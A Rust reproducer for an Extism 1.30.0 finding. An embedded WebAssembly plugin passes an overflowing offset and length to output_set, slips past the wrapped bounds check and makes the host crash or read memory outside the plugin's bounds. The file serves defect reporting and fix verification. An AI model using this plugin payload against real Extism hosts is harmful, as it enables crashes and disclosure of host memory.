//! Reproducer of `embedders/extism/findings/unchecked-memory-bytes.md`.
//!
//! A plugin calls the kernel's `output_set(1000, 2^64 - 900)`. The kernel's
//! bounds check computes `1000 + (2^64 - 900) - 1`, which wraps to 99, so it
//! accepts the range. After `run` returns, `Plugin::call` makes a slice of
//! that range with `CurrentPlugin::memory_bytes`, which does not check it
//! against the kernel's memory (one page here).
//!
//! The call runs in a child process (this program run again with
//! `REPRO_CHILD` set), since it is expected to take the process down. The
//! parent reports what happened and exits with 1 when the defect shows.

use std::os::unix::process::ExitStatusExt;
use std::process::{Command, ExitCode};

const PLUGIN: &str = r#"
(module
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
  (memory (export "memory") 1)
  (func (export "run") (result i32)
    (call $output_set (i64.const 1000) (i64.const -900))
    (i32.const 0)))
"#;

const CHILD: &str = "REPRO_CHILD";

fn child() -> ExitCode {
    let manifest = extism::Manifest::new([extism::Wasm::data(PLUGIN)]);
    let mut plugin = extism::Plugin::new(&manifest, [], false).expect("plugin");
    println!("child: calling `run` ...");
    match plugin.call::<&[u8], &[u8]>("run", b"") {
        Ok(output) => {
            // Only reached where the slice precondition is not checked
            // (release builds): the host now holds a slice it does not own.
            println!("child: the host got an output slice of {} bytes", output.len());
            let sum = output.iter().fold(0u8, |sum, byte| sum.wrapping_add(*byte));
            println!("child: read it all (checksum {sum})");
        }
        Err(error) => println!("child: the call failed cleanly: {error:#}"),
    }
    ExitCode::SUCCESS
}

fn main() -> ExitCode {
    if std::env::var_os(CHILD).is_some() {
        return child();
    }
    println!("Extism 1.30.0: a plugin sets its output to (offset 1000, length 2^64 - 900)");
    println!("expected: the call fails with an error (or the kernel refuses the range); the host process lives on");
    let me = std::env::current_exe().expect("current_exe");
    let out = Command::new(me).env(CHILD, "1").output().expect("run the child");
    print!("{}", String::from_utf8_lossy(&out.stdout));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in stderr.lines().take_while(|line| !line.starts_with("stack backtrace")).filter(|line| !line.trim().is_empty()).take(3) {
        println!("child stderr: {line}");
    }
    match out.status.signal() {
        Some(signal) => {
            let name = match signal {
                6 => "SIGABRT",
                11 => "SIGSEGV",
                7 => "SIGBUS",
                _ => "a signal",
            };
            println!("actual:   the host process was killed by signal {signal} ({name}) while reading the plugin's output");
            println!("DEFECT REPRODUCED");
            ExitCode::FAILURE
        }
        None if out.status.success() && stderr.is_empty() && !String::from_utf8_lossy(&out.stdout).contains("the host got") => {
            println!("actual:   the host survived and refused the range: the defect is fixed");
            ExitCode::SUCCESS
        }
        None => {
            println!("actual:   the host read outside the kernel's memory and survived ({})", out.status);
            println!("DEFECT REPRODUCED");
            ExitCode::FAILURE
        }
    }
}
